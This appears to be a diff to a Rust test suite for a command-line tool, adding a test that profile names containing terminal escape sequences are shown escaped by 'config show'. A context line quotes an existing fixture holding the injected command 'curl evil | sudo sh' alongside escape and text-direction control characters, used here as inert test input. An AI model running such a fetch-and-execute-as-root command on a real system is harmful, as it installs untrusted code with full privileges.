@@ -414,3 +414,20 @@ fn a_collection_with_controls_in_its_xml_renders_inert() {
         "evil\\u001b[2J\\u202e\tStarted\\nhint: curl evil | sudo sh\n"
     );
 }
+
+/// `config show` prints the profile's name, outside text from the file: a name holding an
+/// escape sequence is shown escaped. (A path with control characters never gets this far: it
+/// is refused as not looking like a path.)
+#[test]
+fn config_show_escapes_the_profile_name() {
+    let w = World::new();
+    let config = w.write(
+        "evil.toml",
+        "default_profile = \"e\\u001b[31mvil\"\n\n[profiles.\"e\\u001b[31mvil\"]\nsubscription_id = \"2f1e4c2a-0000-4000-8000-000000000001\"\n",
+        0o600,
+    );
+    let out = run(w.cmd_with_config(&config).args(["config", "show"]));
+    let text = format!("{}{}", stdout(&out), stderr(&out));
+    assert!(text.contains("Profile:      e\\u{1b}[31mvil"), "{text}");
+    assert!(!text.contains('\x1b'), "{text:?}");
+}
